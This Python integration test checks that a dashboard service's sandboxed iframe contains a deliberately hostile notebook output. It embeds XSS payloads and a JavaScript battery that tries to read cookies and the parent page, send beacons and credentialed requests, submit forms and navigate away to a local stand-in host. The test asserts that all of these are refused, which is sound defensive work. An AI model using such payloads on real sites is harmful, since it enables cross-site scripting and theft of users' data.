"""A dashboard whose author wants more than to be looked at reaches nothing: not the page, nor the person, nor the house."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator

import nbformat
import pytest

from integration.dashboards.conftest import PREFIX, Shop

# None of the author's scripts is let in; so the test makes the attempts itself, with all the powers of the frame.
ATTEMPTS = """async ([outside, api]) => {
  const found = {};
  const attempt = async (name, action) => {
    try { const value = await action(); found[name] = value === undefined ? "did" : String(value).slice(0, 80); }
    catch (error) { found[name] = `refused: ${error.name}`; }
  };
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.setItem("a", "b"));
  await attempt("session", () => sessionStorage.setItem("a", "b"));
  await attempt("database", () => new Promise((yes, no) => {
    const asked = indexedDB.open("a"); asked.onsuccess = () => yes("opened"); asked.onerror = () => no(asked.error); }));
  await attempt("caches", () => caches.open("a"));
  await attempt("worker", () => navigator.serviceWorker.register("/services/dashboards/static/x.js"));
  await attempt("parent", () => parent.document.body.innerHTML);
  await attempt("parent location", () => parent.location.href);
  await attempt("top", () => { top.location.href = outside + "/top"; });
  await attempt("popup", () => { if (!open(outside + "/popup")) throw new DOMException("", "Blocked"); });
  await attempt("request", () => new Promise((yes, no) => {
    const asked = new XMLHttpRequest(); asked.open("GET", api + "/me"); asked.withCredentials = true;
    asked.onload = () => yes(asked.status); asked.onerror = () => no(new DOMException("", "Blocked")); asked.send(); }));
  await attempt("socket", () => new Promise((yes, no) => {
    const made = new EventSource(outside + "/events"); made.onopen = () => yes("open");
    made.onerror = () => no(new DOMException("", "Blocked")); }));
  const element = (html) => { const box = document.createElement("div"); box.innerHTML = html; document.body.append(box); };
  element(`<img src="${outside}/img"><link rel=stylesheet href="${outside}/css"><video src="${outside}/video"></video>`);
  element(`<iframe src="${outside}/frame"></iframe>`);
  element(`<object data="${outside}/object"></object><embed src="${outside}/embed">`);
  element(`<link rel=prefetch href="${outside}/prefetch"><link rel=preconnect href="${outside}">`);
  const form = document.createElement("form"); form.action = outside + "/form"; form.method = "post"; form.target = "_top";
  document.body.append(form);
  await attempt("form", () => form.submit());
  const script = document.createElement("script"); script.src = outside + "/script"; document.body.append(script);
  const inline = document.createElement("script"); inline.textContent = "window.inline = 1"; document.body.append(inline);
  navigator.sendBeacon(outside + "/beacon", "x");
  const base = document.createElement("base"); base.href = outside; document.head.append(base);
  await new Promise((done) => setTimeout(done, 800));
  await attempt("inline", () => window.inline ?? (() => { throw new DOMException("", "Blocked"); })());
  await attempt("origin", () => self.origin);
  return found;
}"""

# What would take the frame itself elsewhere.
LEAVING = (
    "outside => setTimeout(() => (location.href = `${outside}/self`))",
    "outside => setTimeout(() => Object.assign(document.createElement('a'), {href: outside, download: 'x'}).click())",
    "outside => setTimeout(() => document.head.insertAdjacentHTML('beforeend', "
    "`<meta http-equiv=refresh content='0;url=${outside}/refresh'>`))",
)

HTML = """<script>window.ran = 1; parent.postMessage({{ran: 1}}, '*')</script>
<img src=x onerror="window.ran = 2"><svg onload="window.ran = 3"></svg>
<a id=lure href="{outside}/lure" target="_top">Click</a>
<form id=f action="{outside}/form"><input name=a></form><button id=b form=f>Send</button>
<iframe srcdoc="<script>parent.ran = 4</script>"></iframe>
<style>@import url({outside}/import); body {{ background: url({outside}/background) }}</style><b>bait</b>"""


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """Another host, and what it was asked."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def test_a_hostile_dashboard_reaches_nothing(shop: Shop, outside: tuple[str, list[str]]) -> None:
    address, asked = outside
    source = f"from IPython.display import HTML\nHTML({json.dumps(HTML.format(outside=address))})"
    shop.publish("hostile", nbformat.v4.new_code_cell(source))
    context = shop.context("viewer")
    page = context.new_page()
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    page.goto(f"{shop.url}{PREFIX}/united/hostile")
    page.frame_locator("#dashboard").locator("text=bait").wait_for(timeout=60_000)
    frame = next(one for one in page.frames if "/frame?" in one.url)
    assert frame.evaluate("window.ran") is None
    for what in ("#lure", "#b"):
        frame.locator(what).dispatch_event("click")
        frame.click(what)
    found = frame.evaluate(ATTEMPTS, [address, f"{shop.url}/services/notehouse/api/v1"])
    print(json.dumps(found, indent=1))
    assert found.pop("cookie") == ""
    assert found.pop("origin") == "null"
    harmless = {name for name, told in found.items() if not told.startswith("refused")}
    assert harmless <= {"form"}, "it says nothing when it is refused"
    assert asked == []
    assert page.url == f"{shop.url}{PREFIX}/united/hostile"
    assert [url for url in answered if not url.startswith((shop.url, "data:", "blob:"))] == []
    assert len(context.pages) == 1
    for leaving in LEAVING:
        page.reload()
        page.frame_locator("#dashboard").locator("text=bait").wait_for(timeout=60_000)
        frame = next(one for one in page.frames if "/frame?" in one.url)
        frame.evaluate(leaving, address)
        page.wait_for_timeout(700)
    assert asked == [], "a frame that leaves comes nowhere"
    assert page.url == f"{shop.url}{PREFIX}/united/hostile"
    context.close()
